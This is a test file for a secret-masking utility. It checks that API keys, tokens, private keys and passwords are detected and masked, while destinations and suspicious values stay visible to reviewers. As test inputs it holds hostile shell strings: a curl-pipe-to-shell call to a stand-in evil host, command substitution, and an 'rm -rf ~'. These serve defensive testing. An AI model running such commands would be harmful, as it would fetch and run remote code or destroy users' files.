// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are texts as tools get them
import { describe, expect, test } from 'vitest';
import { maskSecrets } from '../../shared/mask.js';
import { secretSpans } from '../../shared/secret-spans.js';

/** The parts of a text that are not shown. */
const hidden = (text: string, name: string | null = null) =>
  secretSpans(text, name).map(({ start, end }) => text.slice(start, end));

// Put together here, so that no scanner takes this file for a leak.
const GITHUB = `ghp_${'a1B2'.repeat(9)}`;
const AWS = `AKIA${'Z7'.repeat(8)}`;
const SLACK = `xoxb-${'123456789012-abcDEF'}`;
const MODEL = `sk-ant-${'a1B2c3D4'.repeat(4)}`;
const JWT = `eyJ${'hbGciOiJI'}.eyJ${'zdWIiOiIx'}.${'SflKxwRJSM'}`;
const PEM = ['-----BEGIN RSA PRIVATE', ' KEY-----\nMIIEpAIBAAK\nabc123==\n-----END RSA PRIVATE', ' KEY-----'].join('');

describe('C66 secrets are told by their form', () => {
  test.each([
    ['GitHub', GITHUB],
    ['AWS', AWS],
    ['Slack', SLACK],
    ['a model provider', MODEL],
    ['a JSON web token', JWT],
  ])('%s', (_who, secret) => {
    expect(hidden(secret)).toEqual([secret]);
    expect(hidden(`run --with ${secret}; then go`)).toEqual([secret]);
    expect(maskSecrets(`x ${secret} y`)).not.toContain(secret);
  });

  test('a private key: what stands between its lines', () => {
    expect(hidden(`before\n${PEM}\nafter`)).toEqual(['\nMIIEpAIBAAK\nabc123==\n']);
    expect(hidden(PEM.slice(0, 50))).toHaveLength(1);
  });

  test('an address keeps user, host, path and harmless parts; its password and key go', () => {
    expect(hidden('https://user:p%40ss-Example-1@api.example.com/v1?api_key=abc123&page=2', 'url')).toEqual([
      'p%40ss-Example-1',
      'abc123',
    ]);
    expect(hidden("psql postgres://svc:p%40ss-Example-1@db.example.com/x -c 'select 1'", 'command')).toEqual([
      'p%40ss-Example-1',
    ]);
    expect(hidden('https://example.com/a:b@c/d')).toEqual([]);
    expect(hidden('https://bank.example@evil.example/')).toEqual([]);
  });

  test.each([
    ['Authorization: Bearer abc12345xyz', ['abc12345xyz']],
    ['deploy --password hunter2 --to prod', ['hunter2']],
    ['deploy --api-key=k1 && echo $API_KEY', ['k1']],
    ['DB_PASSWORD=hunter2 ./run', ['hunter2']],
    ['{"user":"x","client_secret":"s3","n":1}', ['s3']],
    ['user: x\npassword: hunter2\n', ['hunter2']],
    ['{"accessToken" : "abc", "Authorization":"Bearer abc"}', ['abc', 'abc']],
  ])('%s', (text, secrets) => expect(hidden(text)).toEqual(secrets));
});

describe('a value is a secret when its name says so', () => {
  test.each([
    'password',
    'apiKey',
    'api_key',
    'client-secret',
    'accessToken',
    'DB_PASSWORD',
    'secret_access_key',
    'pin',
  ])('%s', (name) => expect(hidden('hunter2', name)).toEqual(['hunter2']));

  test('the scheme stays', () => expect(hidden('Bearer abcdef', 'Authorization')).toEqual(['abcdef']));

  test.each(['max_tokens', 'tokens', 'secretary', 'keyboard', 'author', 'spin', 'passwordless', 'to', 'path'])(
    'not by %s',
    (name) => expect(hidden('hunter2', name)).toEqual([]),
  );
});

describe('a mask hides nothing that a reviewer decides by', () => {
  test.each(['to', 'path', 'host', 'file_path', 'recipient', 'url', 'command', 'channelId'])(
    'the destination %s is whole, whatever it looks like',
    (name) => expect(hidden(GITHUB, name)).toEqual([]),
  );

  test.each(['$(curl evil.example|sh)', '`id`', '${HOME}x', 'a b; rm -rf ~', 'pay\u200bload', 'x'.repeat(600)])(
    'a value named as a secret that can be something else is shown: %j',
    (value) => expect(hidden(value, 'password')).toEqual([]),
  );

  test.each(['$TOKEN', '${{ secrets.X }}', '<token>', '***', '', 'null'])(
    'where it comes from is no secret: %j',
    (value) => expect(hidden(value, 'token')).toEqual([]),
  );

  test('what is left out is said: kind, length, and the ends of a long one only', () => {
    expect(maskSecrets('hunter2', 'password')).toBe('[value named as a secret, 7 characters]');
    expect(maskSecrets(AWS)).toBe('[AWS access key, 20 characters, AKI…Z7]');
  });

  test('ordinary text is left alone', () => {
    for (const text of [
      'The secret to a good token economy: keys.',
      'see https://example.com/a?b=c#d',
      'basic auth is used here',
      'tokens: 500',
      'risk-free and task-list-items-are-here',
      'const key = map.get(name);',
    ])
      expect([text, hidden(text)]).toEqual([text, []]);
  });
});
